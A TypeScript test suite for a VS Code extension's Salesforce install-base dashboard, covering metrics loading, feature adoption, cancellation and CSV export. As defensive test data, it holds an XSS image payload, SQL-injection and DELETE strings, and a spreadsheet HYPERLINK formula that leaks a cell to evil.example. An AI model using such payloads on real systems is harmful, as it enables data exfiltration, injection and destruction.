import * as assert from 'node:assert/strict';
import { readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { singleLine } from '../../src/core/displayText';
import type { TestApi } from '../../src/editor/testApi';
import type { VersionNode } from '../../src/editor/installBase/installBaseTree';
import type { DashboardView, FeatureAdoptionView } from '../../src/webview/protocol/dashboard';
import type { HostToPage } from '../../src/webview/protocol/envelope';
import { type DemoControl, connectDemo, eventually, quiet, requestsDuring, stopsWithoutTheAnswer } from './support';

const OPTIONS = { packageId: '', includeSandboxes: false, churnDays: 90 };

describe('dashboard panel protocol', () => {
  let lma: TestApi;
  let demo: DemoControl;
  let nextId = 100;
  const ask = async (name: string, params: unknown) =>
    (await lma.dashboard.dispatch({ type: 'request', id: ++nextId, name, params })) as Extract<HostToPage, { type: 'response' }>;
  const load = async (options = OPTIONS) => {
    const reply = await ask('load', options);
    assert.equal(reply.ok, true, JSON.stringify(reply));
    return (reply as { result: DashboardView }).result;
  };

  before(async () => {
    ({ lma, demo } = await connectDemo());
  });
  afterEach(() => demo.reset());
  after(async () => {
    await vscode.commands.executeCommand('lma.clearFilter');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await vscode.commands.executeCommand('lma.disconnect');
  });

  it('answers load with the server-aggregated metrics, in the API calls it reports, and no connection detail', async () => {
    const { result: view, requests } = await requestsDuring(lma, demo, () => load());
    assert.equal(view.state, 'ready');
    if (view.state !== 'ready') return;
    assert.ok(view.apiCalls === 3 || view.apiCalls === 4, `${view.apiCalls} calls`);
    assert.equal(requests.length, view.apiCalls, requests.map((r) => `${r.method} ${r.path.slice(0, 80)}`).join('\n'));
    const direct = await lma.connections.lmo.lmo!.dashboard({ includeSandboxes: false, churnDays: 90 });
    // The page receives JSON: compare what crosses.
    assert.deepEqual(JSON.parse(JSON.stringify(view.metrics)), JSON.parse(JSON.stringify(direct.metrics)));
    const wire = JSON.stringify(view);
    const url = lma.connections.lmo.client!.target.instanceUrl!;
    assert.ok(!/00D\w{12,15}!/.test(wire) && !wire.includes(url) && !wire.includes('127.0.0.1'), 'no token or instance URL crosses into the webview');
    assert.equal(view.renewingNext[0].subscriber, '<img src=x onerror=alert(1)>', 'customer text is passed as text');
  });

  const loadFeatures = async (options = OPTIONS) => {
    const reply = await ask('loadFeatures', options);
    assert.equal(reply.ok, true, JSON.stringify(reply));
    return (reply as { result: FeatureAdoptionView }).result;
  };

  it("answers loadFeatures with the adoption of every package that has feature parameters, the reader's numbers, in at most 3 + 2 calls a package", async () => {
    const { result: view, requests } = await requestsDuring(lma, demo, () => loadFeatures());
    assert.equal(view.state, 'ready');
    if (view.state !== 'ready') return;
    const lmo = lma.connections.lmo.lmo!;
    const parameters = await lmo.features.parameters();
    assert.deepEqual(
      view.packages.map((p) => p.packageId.slice(0, 15)).sort(),
      [...new Set(parameters.map((p) => p.packageId.slice(0, 15)))].sort(),
      'the packages with parameters, and only those',
    );
    assert.ok(view.packages.length > 0);
    assert.ok(requests.length <= 3 + 2 * view.packages.length, `${requests.length} calls for ${view.packages.length} packages`);
    for (const pkg of view.packages) {
      const direct = await lmo.features.distributions(pkg.packageId);
      assert.equal(pkg.liveLicenses, direct.liveLicenses);
      assert.deepEqual(
        pkg.parameters.map((p) => [p.name, p.dataType, p.direction, p.on]),
        // Names as one line of visible text (the demo's legacy parameter hides a bidi override in its name).
        direct.parameters.map((d) => [
          singleLine(d.parameter.name),
          d.parameter.dataType,
          d.parameter.direction,
          d.distribution.dataType === 'Boolean' ? d.distribution.on : undefined,
        ]),
      );
    }
    assert.deepEqual(view.failed, []);
    const all = view.packages.flatMap((p) => p.parameters);
    for (const pkg of view.packages)
      for (const p of pkg.parameters.filter((x) => x.dataType === 'Boolean')) {
        // The share is of every live license (licenses without a value are not on), and the words say the same.
        assert.equal(p.share, p.on! / pkg.liveLicenses, p.name);
        assert.ok(p.summary.startsWith(`on for ${p.on!.toLocaleString('en-US')} of ${pkg.liveLicenses.toLocaleString('en-US')} live licenses (`), p.summary);
      }
    assert.ok(
      all.some((p) => p.dataType === 'Boolean' && p.share !== undefined && p.share > 0 && p.share < 1),
      'a Boolean on for some customers',
    );
    const wire = JSON.stringify(view);
    const url = lma.connections.lmo.client!.target.instanceUrl!;
    assert.ok(!/00D\w{12,15}!/.test(wire) && !wire.includes(url) && !wire.includes('127.0.0.1'), 'no token or instance URL crosses into the webview');
    assert.ok(
      all.some((p) => p.direction === 'SubscriberToLmo'),
      'a value the customers report',
    );
  });

  it('scopes feature adoption to the chosen package, and says when the LMO has no Feature Management App', async () => {
    const all = await loadFeatures();
    assert.ok(all.state === 'ready' && all.packages.length > 1, 'the demo has parameters in more than one package');
    if (all.state !== 'ready') return;
    const one = await loadFeatures({ ...OPTIONS, packageId: all.packages[1].packageId });
    assert.ok(one.state === 'ready');
    assert.deepEqual(one.state === 'ready' && one.packages.map((p) => p.packageName), [all.packages[1].packageName]);
    await demo.setFmaInstalled(false);
    try {
      const missing = await loadFeatures();
      assert.equal(missing.state, 'fmaMissing');
      assert.match(missing.state === 'fmaMissing' ? missing.message : '', /no Feature Management App/);
    } finally {
      await demo.setFmaInstalled(true);
    }
    assert.equal((await ask('loadFeatures', { packageId: 'x'.repeat(40) })).ok, false, 'malformed options are refused');
  });

  it("shows the other packages when one package cannot be read, and names it with Salesforce's words", async () => {
    const all = await loadFeatures();
    assert.ok(all.state === 'ready' && all.packages.length > 1);
    if (all.state !== 'ready') return;
    const broken = all.packages[1];
    await demo.injectFault(
      { kind: 'apiError', status: 400, errorCode: 'QUERY_TIMEOUT', message: 'Your query request was running for too long.' },
      { match: broken.packageId, times: 1 },
    );
    const view = await loadFeatures();
    assert.ok(view.state === 'ready');
    if (view.state !== 'ready') return;
    assert.deepEqual(
      view.failed.map((f) => f.packageName),
      [broken.packageName],
    );
    assert.match(view.failed[0].message, /stopped a query that ran too long \(QUERY_TIMEOUT\)/);
    assert.deepEqual(
      view.packages.map((p) => p.packageName),
      all.packages.filter((p) => p !== broken).map((p) => p.packageName),
    );
  });

  it('cancels a feature adoption load the org holds back when the page asks, and a new dashboard load stops it too', async () => {
    await quiet(lma);
    await demo.injectFault({ kind: 'hang' }, { times: 1000 });
    const pending = ask('loadFeatures', OPTIONS);
    await demo.holding('the feature load');
    const cancel = await ask('cancelFeatures', {});
    assert.deepEqual(cancel, { type: 'response', id: cancel.id, ok: true, result: { cancelled: true } });
    const reply = await stopsWithoutTheAnswer(pending, 'the cancelled feature load');
    assert.equal(!reply.ok && reply.error.kind, 'cancelled');
    await demo.released('the cancelled feature load');
    const second = ask('loadFeatures', OPTIONS);
    await demo.holding('the second feature load');
    const loading = ask('load', OPTIONS);
    const stopped = await stopsWithoutTheAnswer(second, 'the feature load a dashboard load overtook');
    assert.equal(!stopped.ok && stopped.error.kind, 'cancelled', 'a new load of the numbers stops the old feature load');
    await ask('cancelLoad', {});
    await stopsWithoutTheAnswer(loading, 'the cancelled dashboard load');
  });

  it('scopes to one package and includes sandboxes when asked', async () => {
    const all = await load();
    assert.equal(all.state, 'ready');
    if (all.state !== 'ready') return;
    const pkg = all.packages[0];
    const one = await load({ ...OPTIONS, packageId: pkg.id });
    const withSandboxes = await load({ ...OPTIONS, includeSandboxes: true });
    assert.ok(one.state === 'ready' && one.metrics.liveLicenses < all.metrics.liveLicenses);
    assert.ok(one.state === 'ready' && one.metrics.versionAdoption.length === 1 && one.metrics.versionAdoption[0].packageName === pkg.name);
    assert.ok(withSandboxes.state === 'ready' && withSandboxes.metrics.liveLicenses > all.metrics.liveLicenses);
  });

  it('rejects malformed requests with an error reply, and ignores what is not a request', async () => {
    const bad = await ask('load', { packageId: 5 });
    assert.equal(bad.ok, false);
    assert.match(!bad.ok ? bad.error.message : '', /Invalid load request/);
    const badTarget = await ask('showInTree', { kind: 'subscriber', orgId: "x' OR 1=1" });
    assert.equal(badTarget.ok, false);
    assert.equal(await lma.dashboard.dispatch({ type: 'request', id: 1, name: 'constructor', params: OPTIONS }), undefined);
    assert.equal(await lma.dashboard.dispatch('nonsense'), undefined);
  });

  it('keeps the last numbers, marked stale, when a reload fails; errors without them', async () => {
    await load();
    await demo.setApiLimitReached(true);
    const stale = await load();
    assert.equal(stale.state, 'ready');
    assert.match(stale.state === 'ready' ? (stale.stale?.message ?? '') : '', /daily API request limit/);
    const fresh = await ask('load', { ...OPTIONS, churnDays: 31 });
    assert.equal(fresh.ok, false);
    assert.match(!fresh.ok ? fresh.error.message : '', /daily API request limit/);
  });

  it('cancels a load the org holds back when the page asks, and says so', async () => {
    await quiet(lma);
    await demo.injectFault({ kind: 'hang' }, { times: 3 });
    const pending = ask('load', { ...OPTIONS, churnDays: 45 });
    await demo.holding('the load');
    const cancel = await ask('cancelLoad', {});
    assert.deepEqual(cancel, { type: 'response', id: cancel.id, ok: true, result: { cancelled: true } });
    const reply = await stopsWithoutTheAnswer(pending, 'the cancelled load');
    assert.equal(reply.ok, false);
    assert.equal(!reply.ok && reply.error.kind, 'cancelled');
    assert.equal((await ask('cancelLoad', { nothing: 1 })).ok, false, 'a malformed cancel is refused');
  });

  it('says not connected, and LMA missing, as states', async () => {
    await demo.setLmaInstalled(false);
    try {
      await vscode.commands.executeCommand('lma.connectDemo');
      assert.equal((await load()).state, 'lmaMissing');
    } finally {
      await demo.setLmaInstalled(true);
    }
    await vscode.commands.executeCommand('lma.disconnect');
    assert.deepEqual(await load(), { state: 'notConnected' });
    ({ lma, demo } = await connectDemo());
  });

  it('marks churn as approximated when License history cannot be read, in the view and the summary, and from history again on a new connection', async () => {
    const fromHistory = await load({ ...OPTIONS, churnDays: 60 });
    assert.equal(fromHistory.state === 'ready' && fromHistory.metrics.churn.source, 'history');
    await demo.injectFault(
      { kind: 'apiError', status: 400, errorCode: 'INVALID_TYPE', message: "sObject type 'sfLma__License__History' is not supported." },
      { match: 'sfLma__License__History', times: 10 },
    );
    try {
      const approximated = await load({ ...OPTIONS, churnDays: 60 });
      assert.equal(approximated.state, 'ready');
      if (approximated.state !== 'ready') return;
      // The page words the KPI from this field: "Approximated: License history could not be read, …" (src/webview/dashboard/main.ts).
      assert.equal(approximated.metrics.churn.source, 'lastModified');
      assert.equal((await ask('copySummary', { ...OPTIONS, churnDays: 60 })).ok, true);
      const summary = await vscode.env.clipboard.readText();
      assert.match(summary, /\| Churn, last 60 days \(approx\.\) \|/);
      assert.match(summary, /_Churn is approximated: License history could not be read/);
    } finally {
      await demo.reset();
      // The connection remembers that history was unreadable: a new one asks again.
      ({ lma, demo } = await connectDemo());
    }
    const again = await load({ ...OPTIONS, churnDays: 60 });
    assert.equal(again.state === 'ready' && again.metrics.churn.source, 'history');
  });

  it('copies the summary as Markdown', async () => {
    const reply = await ask('copySummary', OPTIONS);
    assert.equal(reply.ok, true);
    const text = await vscode.env.clipboard.readText();
    assert.match(text, /^## Install base — Demo LMO \(all packages, sandboxes excluded\)/);
    assert.match(text, /\| Active subscribers \| [\d,]+ \|/);
  });

  it('exports the metrics and streams every license in scope to CSV', async () => {
    const dir = tmpdir();
    const metricsFile = vscode.Uri.file(join(dir, `metrics-${Date.now()}.csv`));
    const licensesFile = vscode.Uri.file(join(dir, `licenses-${Date.now()}.csv`));
    try {
      await lma.dashboard.controller.exportMetricsTo(metricsFile, OPTIONS);
      const metricsCsv = await readFile(metricsFile.fsPath, 'utf8');
      assert.match(metricsCsv, /Subscribers,Active subscribers,\d+/);
      const result = (await vscode.commands.executeCommand('lma.exportLicenses', licensesFile, { ...OPTIONS, includeSandboxes: true })) as { written: number };
      assert.equal(result.written, await demo.licenseCount());
      const lines = (await readFile(licensesFile.fsPath, 'utf8')).trimEnd().split(/\r?\n/);
      assert.match(lines[0], /^\uFEFFLicense,Status,State,Subscriber,/);
      const csv = lines.join('\n');
      assert.ok(csv.includes('"O\'Brien & ""Sons"" <b>Ltd</b>"'), 'quotes are doubled inside a quoted field');
      assert.ok(
        csv.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for a discount"")"`),
        'a formula-like name is neutralised with a leading apostrophe',
      );
      assert.ok(!/(^|,)"?=/m.test(csv), 'no cell starts a spreadsheet formula');
      // No comma, quote or line break in it: the cell goes unquoted, whole, trailing space and all.
      assert.ok(csv.includes(`,'; DELETE FROM sfLma__License__c; -- \\ %_ ,`), 'hostile text is kept as text, whole');
    } finally {
      await rm(metricsFile.fsPath, { force: true });
      await rm(licensesFile.fsPath, { force: true });
    }
  });

  it("shows a chart segment's licenses in the sidebar: a version, a renewal window, a subscriber", async () => {
    const all = await load();
    const view = await load({ ...OPTIONS, packageId: all.state === 'ready' ? all.packages[0].id : '' });
    assert.equal(view.state, 'ready');
    if (view.state !== 'ready') return;
    const adoption = view.metrics.versionAdoption[0];
    const version = adoption.versions.find((v) => v.versionNumber === adoption.latestVersion)!;
    assert.equal((await ask('showInTree', { kind: 'version', packageId: adoption.packageId, versionId: version.versionId })).ok, true);
    const selected = await eventually(() => lma.views.installBaseView.selection[0] as VersionNode | undefined, 'the version to be selected');
    assert.equal(selected.version.id, version.versionId);
    assert.deepEqual(lma.filter.current.statuses, ['Active', 'Trial']);

    const bucket = view.metrics.renewals[0];
    await ask('showInTree', { kind: 'renewals', from: bucket.from, to: bucket.to });
    assert.equal(lma.filter.current.expiringFrom, bucket.from);
    assert.match(String(lma.views.installBaseView.description), new RegExp(`expiring ${bucket.from} – ${bucket.to}`));

    await ask('showInTree', { kind: 'subscriber', orgId: view.renewingNext[0].orgId });
    const org = await eventually(
      () => lma.views.subscribersView.selection[0] as { kind: string; org?: { orgKey: string } } | undefined,
      'the org to be selected',
    );
    assert.equal(org.org?.orgKey, view.renewingNext[0].orgId.slice(0, 15));
  });

  it('opens the panel from the command palette', async () => {
    await vscode.commands.executeCommand('lma.openDashboard');
    const tab = await eventually(
      () => vscode.window.tabGroups.all.flatMap((g) => g.tabs).find((t) => t.label === 'Install-Base Dashboard'),
      'the dashboard tab',
    );
    assert.ok(tab.input instanceof vscode.TabInputWebview, 'a webview tab');
    assert.match(tab.input.viewType, /lma\.dashboard$/, 'the dashboard webview');
    const host = lma.dashboard.panel.current;
    assert.ok(host, 'the dashboard feature holds the panel the command opened');
    assert.equal(host.panel.title, 'Install-Base Dashboard');
    assert.match(host.panel.webview.html, /dist\/webview\/dashboard\.js/, 'serving the dashboard bundle');
    assert.equal(vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter((t) => t.label === 'Install-Base Dashboard').length, 1, 'one dashboard tab');
  });
});
